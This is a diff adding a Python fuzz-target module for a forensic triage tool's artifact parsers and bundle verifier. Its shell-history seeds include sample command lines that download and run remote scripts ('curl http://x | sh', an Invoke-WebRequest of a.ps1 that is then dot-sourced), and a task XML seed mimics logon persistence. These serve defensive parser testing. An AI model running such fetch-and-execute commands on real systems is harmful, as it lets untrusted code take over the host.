@@ -1,0 +1,200 @@
+"""Fuzz targets: every artifact parser, and the bundle reader / verifier / recovery, each a function
+of one byte string, with seeds from ../shared/corpus.
+
+A target's contract is the project's: bad input is an Issue (or a verification problem), never an
+exception. Any exception escaping a target is a finding; ``run.py`` saves the input, and the input
+becomes a regression case under ``regressions/<target>/`` replayed by ``test_fuzz_regressions.py``.
+
+Used by ``run.py`` (atheris, coverage-guided) and by the regression test (plain replay).
+"""
+
+from __future__ import annotations
+
+import shutil
+import struct
+import tempfile
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+REPO = HERE.parents[1]
+CORPUS = (REPO / ".." / "shared" / "corpus").resolve()
+MAX_SEED_BYTES = 256 << 10        # larger corpus files make slow mutations; they are left out
+MAX_OUTPUTS = 20_000              # records read from one input before moving on
+
+
+@dataclass(frozen=True)
+class Target:
+    name: str
+    run: Callable[[bytes], None]
+    seeds: Callable[[], list[bytes]]
+
+
+_SCRATCH = Path(tempfile.mkdtemp(prefix="triage-fuzz-"))
+
+
+def _scratch_file(data: bytes, rel: str) -> Path:
+    """``data`` as a file named like the artifact (some parsers read the name), in a fresh dir."""
+    d = Path(tempfile.mkdtemp(dir=_SCRATCH))
+    path = d / rel.rsplit("/", 1)[-1]
+    path.write_bytes(data)
+    return path
+
+
+def _parser_target(module: str, cls: str, rel: str) -> Callable[[bytes], None]:
+    def run(data: bytes) -> None:
+        import importlib
+
+        from triage.parsers.base import input_from_file
+
+        parser = getattr(importlib.import_module(module), cls)()
+        path = _scratch_file(data, rel)
+        try:
+            item = input_from_file(path, rel)
+            for n, _ in enumerate(parser.parse(item)):
+                if n >= MAX_OUTPUTS:
+                    break
+        finally:
+            shutil.rmtree(path.parent, ignore_errors=True)
+    return run
+
+
+def _corpus(*globs: str) -> Callable[[], list[bytes]]:
+    def seeds() -> list[bytes]:
+        out = []
+        for g in globs:
+            for p in sorted(CORPUS.glob(g)):
+                if p.is_file() and 0 < p.stat().st_size <= MAX_SEED_BYTES:
+                    out.append(p.read_bytes())
+        return out
+    return seeds
+
+
+def _recycle_seeds() -> list[bytes]:
+    """No $I file in the corpus: the two on-disk layouts, built per the format."""
+    ft = 133_540_000_000_000_000
+    path = "C:\\Users\\ann\\Documents\\plan.docx"
+    v1 = struct.pack("<qQQ", 1, 1234, ft) + path.encode("utf-16-le").ljust(520, b"\0")
+    text = path + "\0"
+    v2 = struct.pack("<qQQI", 2, 1234, ft, len(text)) + text.encode("utf-16-le")
+    return [v1, v2]
+
+
+def _task_seeds() -> list[bytes]:
+    xml = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
+           'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Date>'
+           '2024-01-02T03:04:05</Date><Author>x\\y</Author></RegistrationInfo><Triggers><LogonTrigger>'
+           '<Enabled>true</Enabled></LogonTrigger></Triggers><Actions Context="Author"><Exec><Command>'
+           'C:\\Users\\Public\\u.exe</Command><Arguments>-a b</Arguments></Exec></Actions></Task>')
+    return [b"\xff\xfe" + xml.encode("utf-16-le"), xml.replace("UTF-16", "UTF-8").encode()]
+
+
+def _history_seeds() -> list[bytes]:
+    return [b"whoami\r\nInvoke-WebRequest http://198.51.100.7/a.ps1 -OutFile a.ps1\r\n. .\\a.ps1 `\r\n  -x\r\n",
+            b": 1700000000:0;ls -la\n: 1700000001:0;curl http://x | sh\n"]
+
+
+def _bundle_seeds() -> list[bytes]:
+    """Two real bundles written by the collector's own writer from small corpus files: one closed
+    (central directory, manifest) and the same cut short (as after kill -9)."""
+    import hashlib
+    import io
+    import json
+
+    from triage.bundle.manifest import COLLECTED, ManifestEntry
+    from triage.bundle.writer import BundleWriter, json_bytes
+
+    files = [p for g in ("prefetch/artemis-win10/*.pf", "lnk/ez-win10/*.lnk") for p in sorted(CORPUS.glob(g))[:2]]
+    class _Keep(io.BytesIO):
+        def close(self) -> None:   # the writer closes its file; the bytes are wanted afterwards
+            pass
+
+    buf = _Keep()
+    w = BundleWriter(buf, compression="deflate")
+    entries = []
+    for i, p in enumerate(files):
+        data = p.read_bytes()
+        member = f"files/C/Seeds/{p.name}"
+        res = w.add_stream(member, iter([data]))
+        e = ManifestEntry(path=f"C:\\Seeds\\{p.name}", volume="C", bundle_path=member, artifact="seed", priority=1,
+                          outcome=COLLECTED, size=res.size, sha256=res.hashes["sha256"], seq=i)
+        w.journal(e.to_json())
+        entries.append(e)
+    cut = buf.getvalue()
+    manifest = "".join(e.to_json() + "\n" for e in entries).encode()
+    w.add_bytes("meta/manifest.jsonl", manifest)
+    w.add_bytes("meta/collection.json", json_bytes({"status": "complete", "hostname": "seed",
+                                                    "manifest_sha256": hashlib.sha256(manifest).hexdigest()}))
+    w.close()
+    return [buf.getvalue(), cut, json.dumps({"not": "a zip"}).encode()]
+
+
+def _bundle_run(data: bytes) -> None:
+    from triage.bundle.reader import BundleReader
+    from triage.bundle.recover import recover_bundle
+    from triage.bundle.verify import verify_bundle
+
+    path = _scratch_file(data, "host_20260101T000000Z.zip")
+    try:
+        report = verify_bundle(path)
+        with BundleReader(path) as b:
+            b.names()
+            for e in b.entries[:50]:
+                if e.bundle_path:
+                    try:
+                        with b.open(e.bundle_path) as fh:
+                            while fh.read(1 << 20):
+                                pass
+                    except (KeyError, OSError, EOFError, ValueError, zipfile.BadZipFile):
+                        pass          # unreadable members are what verify reports; reading must not crash
+        if report.incomplete and not report.encrypted:
+            recover_bundle(path, path.parent / "recovered")
+    finally:
+        shutil.rmtree(path.parent, ignore_errors=True)
+
+
+TARGETS: dict[str, Target] = {t.name: t for t in (
+    Target("bundle", _bundle_run, _bundle_seeds),
+    Target("evtx", _parser_target("triage.parsers.evtx", "EvtxParser", "Windows/System32/winevt/Logs/System.evtx"),
+           _corpus("evtx/*/*.evtx", "evtx/truncated/*")),
+    Target("registry", _parser_target("triage.parsers.registry", "RegistryParser", "Users/u/NTUSER.DAT"),
+           _corpus("registry/*/*", "registry/corrupted/*")),
+    Target("prefetch", _parser_target("triage.parsers.prefetch", "PrefetchParser",
+                                      "Windows/Prefetch/CMD.EXE-4A81B364.pf"),
+           _corpus("prefetch/artemis-win10/*.pf", "prefetch/corrupted/*", "prefetch/ez-bad/*", "prefetch/*/*.pf")),
+    Target("chromium", _parser_target("triage.parsers.chromium", "ChromiumHistoryParser",
+                                      "Users/u/AppData/Local/Google/Chrome/User Data/Default/History"),
+           _corpus("browser/chrome/*/History", "browser/truncated/*")),
+    Target("firefox", _parser_target("triage.parsers.firefox", "FirefoxHistoryParser",
+                                     "Users/u/AppData/Roaming/Mozilla/Firefox/Profiles/p/places.sqlite"),
+           _corpus("browser/firefox/*/places.sqlite")),
+    Target("pe", _parser_target("triage.parsers.pe", "PEParser", "Users/Public/u.exe"), _corpus("pe/*/*")),
+    Target("recycle_bin", _parser_target("triage.parsers.recyclebin", "RecycleBinParser",
+                                         "$Recycle.Bin/S-1-5-21-1-2-3-1001/$IAB12CD.txt"), _recycle_seeds),
+    Target("shell_history", _parser_target("triage.parsers.history", "ShellHistoryParser",
+                                           "Users/u/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/"
+                                           "ConsoleHost_history.txt"), _history_seeds),
+    Target("startup", _parser_target("triage.parsers.startup", "StartupFolderParser",
+                                     "Users/u/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.lnk"),
+           _corpus("lnk/*/*.lnk")),
+    Target("task_xml", _parser_target("triage.parsers.tasks", "TaskXmlParser", "Windows/System32/Tasks/Updater"),
+           _task_seeds),
+)}
+
+
+def cleanup() -> None:
+    shutil.rmtree(_SCRATCH, ignore_errors=True)
+
+
+def write_seeds(name: str, dest: Path) -> int:
+    """The target's seeds as files in ``dest`` (a libFuzzer corpus directory); how many."""
+    dest.mkdir(parents=True, exist_ok=True)
+    seeds = TARGETS[name].seeds()
+    for i, s in enumerate(seeds):
+        (dest / f"seed-{i:04d}").write_bytes(s)
+    return len(seeds)
+
+
+__all__ = ["TARGETS", "Target", "cleanup", "write_seeds"]
